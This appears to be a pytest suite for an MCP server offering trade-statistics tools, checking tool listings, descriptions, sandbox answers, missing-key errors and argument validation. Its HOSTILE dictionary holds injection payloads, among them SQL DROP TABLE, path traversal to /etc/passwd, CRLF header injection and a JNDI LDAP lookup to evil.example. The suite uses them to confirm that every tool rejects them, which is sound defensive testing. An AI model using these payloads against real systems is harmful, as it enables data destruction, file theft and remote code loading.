"""The whole server: every tool as a client sees it, on the sandbox and on a watched wire."""

import re
from importlib.metadata import version
from typing import Any

import pytest
from mcp import Client
from mcp_types import CallToolResult, TextContent, Tool

from tradestat_server.mcp.answering import ERROR_META
from tradestat_server.mcp.app import create_server, instructions
from tradestat_server.mcp.context import open_context
from tradestat_server.mcp.prompts import PROMPTS, write
from tradestat_server.mcp.schemas import input_schema
from tradestat_server.text.render import MAX_CHARS, SANDBOX_LABEL, render_answer, render_error
from tradestat_tools.catalogue import catalogue
from tradestat_tools.contract.context import Context
from tradestat_tools.model.errors import ERRORS, InvalidQuery
from tradestat_tools.model.settings import SANDBOX_URL
from tradestat_tools.open import context_on

pytestmark = pytest.mark.anyio

KEYS = {"PARSE_API_KEY": "key-one", "DATA_GO_KR_SERVICE_KEY": "key-two", "COMTRADE_API_KEY": "key-three"} | {
    "CENSUS_API_KEY": "key-four"
}

UPSTREAM_TOOLS = {
    *("get_countries", "get_country_groups", "get_products_hs", "get_services_ebops"),
    *("goods_time_series", "goods_trade_indicators", "services_time_series", "get_coverage"),
    *("dashboard", "markets", "trend", "topProducts", "history", "growth", "priceband", "chapter"),
    *("getNitemtradeList", "getItemtradeList", "getNationtradeList", "getNewtradeList"),
    *("comtrade_data", "comtrade_reference", "comtrade_tariffline", "comtrade_availability", "comtrade_metadata"),
    *("comtrade_trade_matrix", "comtrade_trade_balance", "comtrade_bilateral", "comtrade_live_update"),
    *("us_imports", "us_exports", "us_reference", "eu_trade", "eu_reference"),
}

OWN_TOOLS = {
    "search_codes",
    "compare_mirror",
    "usage",
    "query",
    "chart",
    "trade_series",
    "trade_indicators",
    "exchange_rate",
    "export_data",
    "import_file",
    "cite",
}

HOSTILE = {
    "control characters": "85\x0017",
    "terminal escape": "\x1b[2J\x1b[31m8517",
    "ten kilobytes": "8" * 10_000,
    "line breaks": "8517\r\nHost: evil.example",
    "sql": "8517'; DROP TABLE flows;--",
    "path": "../../../../etc/passwd",
    "address": "https://evil.example/?x=",
    "template": "${jndi:ldap://evil.example/a}",
}

FREE_TEXT = {"search", "query", "table", "columns", "sort", "filter", "only", "title", "unit"}
"""Words to filter by, or names in a stored answer: any printable text on one line may be right."""

OF_SOURCES = [(tool.name, source, tool) for source in catalogue().sources.values() for tool in source.tools]


async def listed(context: Context) -> list[Tool]:
    async with Client(create_server(context)) as client:
        return (await client.list_tools()).tools


def text_of(result: CallToolResult) -> str:
    (block,) = result.content
    assert isinstance(block, TextContent)
    return block.text


def error_of(result: CallToolResult) -> dict[str, Any]:
    assert result.is_error
    assert result.meta is not None, text_of(result)
    return dict(result.meta[ERROR_META])


def kind_of(result: CallToolResult) -> str:
    return str(error_of(result)["kind"])


async def test_the_server_says_who_it_is_and_how_to_choose(watched: Context, mode: str) -> None:
    async with Client(create_server(watched), mode=mode) as client:
        assert client.server_info is not None
        assert (client.server_info.name, client.server_info.version) == ("tradestat", version("tradestat-mcp"))
        assert client.instructions is not None
        assert "SANDBOX" not in client.instructions
        named = re.findall(r"\b\w+_\w+\b|\bget[A-Z]\w+", client.instructions)
        assert set(named) <= {*catalogue().tools, *(prompt.name for prompt in (await client.list_prompts()).prompts)}


async def test_the_instructions_name_every_tool_our_own_first_in_two_thousand_characters() -> None:
    held = catalogue()
    text = instructions(held.sources.values(), sandbox=True)
    assert len(text) <= 2_000  # hosts cut what is longer
    own, _, rest = text.partition("One service's own figures:")
    assert [name for name in held.own if not re.search(rf"\b{name}\b", own)] == []
    for source in held.sources.values():
        assert source.instructions in rest
        assert [tool.name for tool in source.tools if not re.search(rf"\b{tool.name}\b", source.instructions)] == []


async def test_every_upstream_endpoint_is_a_tool_and_so_are_our_own(watched: Context) -> None:
    tools = await listed(watched)
    assert {tool.name for tool in tools} == UPSTREAM_TOOLS | OWN_TOOLS
    assert len(tools) == len(UPSTREAM_TOOLS | OWN_TOOLS)
    assert set(catalogue().own) == OWN_TOOLS


async def test_every_tool_is_described_for_models_and_people(watched: Context) -> None:
    for tool in await listed(watched):
        assert tool.title == catalogue().tools[tool.name].title
        assert tool.description
        assert 100 < len(tool.description) < 600, tool.name
        assert tool.annotations is not None
        assert tool.annotations.read_only_hint == (tool.name != "export_data")
        assert not tool.annotations.destructive_hint
        for name, schema in tool.input_schema["properties"].items():
            assert schema.get("description"), f"{tool.name}.{name} has no description"


@pytest.mark.slow
@pytest.mark.parametrize("anyio_backend", ["trio"])
async def test_every_tool_of_a_source_answers_its_example_from_the_sandbox_on_trio_too() -> None:
    async with open_context(catalogue().settings(_env_file=None, TRADESTAT_SANDBOX=True)) as context:
        for name, source, tool in OF_SOURCES:
            answer = await context.call(tool, tool.example)
            assert answer.source.state == "sandbox", name
            assert answer.source.service.startswith(source.policy.service), name
            assert answer.source.address.startswith(SANDBOX_URL), name
            text = render_answer(answer)
            assert text.startswith(f"{SANDBOX_LABEL} · "), name
            assert text.count("\n") > 2, name
            assert len(text) <= MAX_CHARS


async def test_every_call_that_a_prompt_advises_is_answered(client: Client) -> None:
    sample = {
        **{"country": "China", "reporter": "Korea", "partner": "Viet Nam", "exporter": "China", "importer": "Korea"},
        **{
            "market": "Germany",
            "product": "850760",
            "hs_code": "8507",
            "year": "2024",
            "first_year": "2023",
        },
        **{"last_year": "2024", "period": "202403", "flow": "export"},
    }
    for prompt in PROMPTS:
        text = write(prompt, **{name: sample[name] for name in prompt.arguments})
        for tool, given in re.findall(r"`(\w+)\(([^`]*)\)`", text):
            result = await client.call_tool(tool, dict(pair.split("=", 1) for pair in given.split(", ")))
            assert not result.is_error or kind_of(result) == "NoData", f"{tool}({given}): {text_of(result)}"


async def test_without_keys_the_tools_that_need_one_say_which_and_send_nothing(wire: Any, watched: Context) -> None:
    keyless = context_on(catalogue().settings(_env_file=None), watched.upstream, watched.now)
    needing = [source for source in catalogue().sources.values() if source.key and source.key.required]
    assert {source.id for source in needing} == {"trademap", "korea", "census"}
    async with Client(create_server(keyless)) as client:
        for source in needing:
            assert source.key is not None
            for tool in source.tools:
                result = await client.call_tool(tool.name, dict(tool.example))
                assert kind_of(result) == "MissingKey", tool.name
                assert source.key.variable in text_of(result)
    assert wire.sent == []


async def test_bad_arguments_are_named_and_nothing_is_sent(wire: Any, watched: Context) -> None:
    """Everything hostile for every way in which an argument is read, and no argument or a wrong one for every tool."""
    read: set[str] = set()
    for name, tool in watched.tools.items():
        properties = input_schema(tool.arguments)["properties"]
        bad: list[tuple[str, Any]] = [("no_such_argument", "x"), *((argument, {"a": 1}) for argument in properties)]
        for argument in properties:
            way = f"{argument} {tool.arguments.model_fields[argument]!r}"
            if way not in read:
                hostile = ("ten kilobytes", "line breaks") if argument in FREE_TEXT else HOSTILE
                hostile = ("ten kilobytes",) if argument == "sql" else hostile  # tried by attack, on tables
                bad += [(argument, HOSTILE[kind]) for kind in hostile]
                read.add(way)
        for argument, value in bad:
            with pytest.raises(InvalidQuery) as caught:
                await watched.call(tool, {**tool.example, argument: value})
            text = render_error(caught.value)
            shown = f"{name}({argument}={str(value)[:40]!r}): {text}"
            assert caught.value.argument == argument, shown
            assert len(text) < 2_000, shown
            assert "\x1b" not in text
    assert wire.sent == []


async def test_a_failing_service_is_an_error_without_keys(wire: Any, watched: Context) -> None:
    kinds = {error.kind for error in ERRORS}
    async with Client(create_server(watched)) as client:
        for name, _, tool in OF_SOURCES:
            result = await client.call_tool(name, dict(tool.example))
            assert kind_of(result) in kinds - {"InvalidQuery", "MissingKey"}, name
            assert result.structured_content is None
            for key in KEYS.values():
                assert key not in result.model_dump_json(), name
    assert wire.sent
